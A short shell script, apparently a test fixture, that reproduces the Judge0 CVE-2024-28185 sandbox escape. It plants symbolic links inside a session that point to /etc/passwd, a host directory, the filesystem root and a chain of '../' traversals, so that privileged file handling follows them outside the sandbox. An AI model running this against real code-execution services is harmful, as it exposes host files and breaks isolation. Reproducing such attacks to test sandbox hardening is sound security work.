# Attack (Judge0 CVE-2024-28185): plant links in the session that point outside it, where the
# privileged side (the file API, fork, the disk-usage walk) may follow them. $1: a host directory.
ln -s /etc/passwd passwd_link
ln -s "$1" host_dir
ln -s "$1/target.txt" host_file
ln -s / root_link
mkdir -p sub
ln -s ../../../../../../ sub/up
echo "planted"
